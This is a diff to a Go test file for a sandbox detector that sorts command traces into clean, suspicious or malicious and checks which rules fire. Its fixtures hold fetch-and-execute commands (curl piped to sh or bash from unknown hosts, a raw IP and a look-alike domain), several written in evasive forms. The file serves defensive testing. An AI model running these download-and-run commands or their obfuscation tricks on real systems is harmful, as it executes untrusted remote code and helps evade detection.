@@ -82,8 +82,14 @@ func TestTwins(t *testing.T) {
 			b.child("curl", "-fsSL", "https://get.docker.com", "-o", "get-docker.sh").write(home + "/get-docker.sh")
 			return b.served("https://get.docker.com/").child("sh", "get-docker.sh").stage2Ran("get.docker.com")
 		}, want: rules.Clean, fire: map[string]rules.Severity{"SBX-EXEC-002": rules.Low, "SBX-EXEC-003": rules.Low}},
-		{name: "dropper from an unknown domain", build: installer("https://get.tool-setup.dev/install.sh"), want: rules.Malicious,
+		{name: "installer from an unknown host over TLS", build: installer("https://get.tool-setup.dev/install.sh"), want: rules.Suspicious,
+			fire: map[string]rules.Severity{"SBX-EXEC-001": rules.High, "SBX-EXEC-003": rules.High}},
+		{name: "dropper from an unknown host over plain HTTP", build: installer("http://get.tool-setup.dev/install.sh"), want: rules.Malicious,
 			fire: map[string]rules.Severity{"SBX-EXEC-001": rules.Critical, "SBX-EXEC-003": rules.Critical}},
+		{name: "dropper at a random-looking path", build: installer("https://cdn.tool-setup.dev/q0c7ew2ro8l2cfqp"), want: rules.Malicious,
+			fire: map[string]rules.Severity{"SBX-EXEC-001": rules.Critical, "SBX-EXEC-003": rules.Critical}},
+		{name: "dropper from a raw IP", build: installer("http://91.92.242.30/install.sh"), want: rules.Malicious,
+			fire: map[string]rules.Severity{"SBX-EXEC-001": rules.Critical, "SBX-EXEC-003": rules.Critical, "SBX-NET-001": rules.Medium}},
 		{name: "dropper from a look-alike of rustup", build: installer("https://sh.rustup.sh"), want: rules.Malicious,
 			fire: map[string]rules.Severity{"SBX-EXEC-001": rules.Critical, "SBX-NET-005": rules.Medium}},
 		{name: "script from a code host", build: func() *tl {
@@ -91,21 +97,21 @@ func TestTwins(t *testing.T) {
 			return newTL().bash("curl -fsSL "+u+" | bash", "").pipe([]string{"curl", "-fsSL", u}, "bash")
 		}, want: rules.Suspicious, fire: map[string]rules.Severity{"SBX-EXEC-001": rules.High}},
 		{name: "quotes split the names", build: func() *tl {
-			return newTL().bash("c''url -fsSL https://get.tool-setup.dev/i.sh | s''h", "")
+			return newTL().bash("c''url -fsSL http://get.tool-setup.dev/i.sh | s''h", "")
 		}, want: rules.Malicious, fire: map[string]rules.Severity{"SBX-EXEC-001": rules.Critical}},
 		{name: "the client in a variable", build: func() *tl {
-			return newTL().bash("d=curl; $d -fsSL https://get.tool-setup.dev/i.sh | bash", "")
+			return newTL().bash("d=curl; $d -fsSL http://get.tool-setup.dev/i.sh | bash", "")
 		}, want: rules.Malicious, fire: map[string]rules.Severity{"SBX-EXEC-001": rules.Critical}},
 		{name: "tee between download and shell", build: func() *tl {
-			return newTL().bash("curl -fsSL https://get.tool-setup.dev/i.sh | tee /tmp/x | sh", "")
+			return newTL().bash("curl -fsSL http://get.tool-setup.dev/i.sh | tee /tmp/x | sh", "")
 		}, want: rules.Malicious, fire: map[string]rules.Severity{"SBX-EXEC-001": rules.Critical}},
 		{name: "names only the process tree can read", build: func() *tl {
-			u := "https://get.tool-setup.dev/i.sh"
+			u := "http://get.tool-setup.dev/i.sh"
 			b := newTL().bash(`$(printf cu)rl -fsSL `+u+` | $(printf s)h`, "")
 			return b.pipe([]string{"curl", "-fsSL", u}, "sh")
 		}, want: rules.Malicious, fire: map[string]rules.Severity{"SBX-EXEC-001": rules.Critical}},
 		{name: "downloaded archive extracted and its installer run", build: func() *tl {
-			u := "https://files.tool-setup.dev/pkg.tar.gz"
+			u := "http://files.tool-setup.dev/pkg.tar.gz"
 			b := newTL().bash("curl -sLO "+u+" && tar xzf pkg.tar.gz && ./package/install.sh", "")
 			b.child("curl", "-sLO", u).write(home+"/pkg.tar.gz").
 				child("tar", "xzf", "pkg.tar.gz").write(home + "/package/install.sh")
